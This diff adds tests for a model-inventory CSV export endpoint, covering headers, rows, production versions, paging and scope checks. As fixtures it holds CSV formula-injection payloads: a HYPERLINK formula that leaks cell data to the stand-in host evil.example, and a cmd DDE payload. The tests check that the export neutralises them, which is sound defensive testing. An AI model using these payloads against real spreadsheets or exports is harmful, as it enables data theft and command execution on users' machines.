@@ -1,0 +1,78 @@
+import { eq } from 'drizzle-orm';
+import { beforeAll, describe, expect, it } from 'vitest';
+import * as route from '@/app/api/v1/exports/inventory.csv/route';
+import { getDb } from '@/db';
+import { modelVersions } from '@/db/schema';
+import { systemActor, type Actor } from '@/lib/auth/actor';
+import { createApiToken } from '@/lib/auth/create-api-token';
+import { createModel } from '@/lib/inventory/create-model';
+import { createModelVersion } from '@/lib/inventory/create-model-version';
+import { makeActor, makeSystem } from '@/lib/testing';
+import { INVENTORY_COLUMNS } from './export-inventory';
+import { downloadCsv, getWithToken } from './test-request';
+
+const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
+let ds: Actor;
+let token: string;
+let formulaSystemId: string;
+
+beforeAll(async () => {
+  ds = await makeActor(['data_scientist']);
+  token = createApiToken(systemActor('test'), ds.userId, { name: 'ci', scopes: ['read'] }).secret;
+  const system = makeSystem(ds, { name: HYPERLINK, purpose: '+cmd|" /C calc"!A0', riskTier: 'high', businessOwner: '@Retail, Credit' });
+  formulaSystemId = system.id;
+  const scorer = createModel(ds, { systemId: system.id, name: 'scorer' });
+  createModelVersion(ds, { modelId: scorer.id, version: '1.0', artifactSha256: 'a'.repeat(64), format: 'onnx' });
+  const live = createModelVersion(ds, { modelId: scorer.id, version: '2.0', artifactSha256: 'b'.repeat(64), format: 'onnx' });
+  // Promotion has its own tests; here a version only needs to be in production.
+  getDb().update(modelVersions).set({ stage: 'production', stageChangedAt: '2026-01-02T03:04:05.000Z' }).where(eq(modelVersions.id, live.id)).run();
+  createModel(ds, { systemId: system.id, name: 'explainer' });
+  makeSystem(ds, { name: 'Bare system', riskTier: 'minimal' });
+  for (let i = 0; i < 510; i++) makeSystem(ds, { name: 'Same name', riskTier: 'limited' });
+});
+
+describe('GET /api/v1/exports/inventory.csv', () => {
+  it('is a dated CSV attachment with one row per model, and a row for a system without models', async () => {
+    const { response, header, records } = await downloadCsv(route.GET, '/api/v1/exports/inventory.csv', token);
+    expect(response.headers.get('content-disposition')).toBe(`attachment; filename="provenant-inventory-${new Date().toISOString().slice(0, 10)}.csv"`);
+    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
+    expect(header).toEqual(INVENTORY_COLUMNS.map((c) => c.header));
+    expect(records.filter((r) => r['System ID'] === formulaSystemId).map((r) => r.Model)).toEqual(['explainer', 'scorer']);
+    expect(records.find((r) => r.System === 'Bare system')).toMatchObject({ Model: '', 'Version count': '0', 'Risk tier': 'minimal', 'Technical owner email': ds.email });
+  });
+
+  it('names the production version and its digest', async () => {
+    const { records } = await downloadCsv(route.GET, '/api/v1/exports/inventory.csv', token);
+    expect(records.find((r) => r.Model === 'scorer')).toMatchObject({
+      'Version count': '2',
+      Versions: '1.0 (development); 2.0 (production)',
+      'Production version': '2.0',
+      'Production artifact SHA-256': 'b'.repeat(64),
+      'In production since (UTC)': '2026-01-02T03:04:05.000Z',
+      'Staging version': '',
+    });
+  });
+
+  it('neutralises formulas in names, purposes and owners', async () => {
+    const { records } = await downloadCsv(route.GET, '/api/v1/exports/inventory.csv', token);
+    const row = records.find((r) => r['System ID'] === formulaSystemId)!;
+    expect(row.System).toBe(`'${HYPERLINK}`);
+    expect(row.Purpose).toBe(`'+cmd|" /C calc"!A0`);
+    expect(row['Business owner']).toBe("'@Retail, Credit");
+  });
+
+  it('pages through more systems than a batch holds, even when they share a name', async () => {
+    const { records } = await downloadCsv(route.GET, '/api/v1/exports/inventory.csv', token);
+    const same = records.filter((r) => r.System === 'Same name').map((r) => r['System ID']);
+    expect(same).toHaveLength(510);
+    expect(new Set(same).size).toBe(510);
+    expect(records).toHaveLength(513);
+  });
+
+  it('refuses a token without the read scope', async () => {
+    const writer = createApiToken(systemActor('test'), ds.userId, { name: 'writer', scopes: ['register'] }).secret;
+    const response = await getWithToken(route.GET, '/api/v1/exports/inventory.csv', writer);
+    expect(response.status).toBe(403);
+    expect((await response.json()).error.message).toMatch(/scope for inventory.read/);
+  });
+});
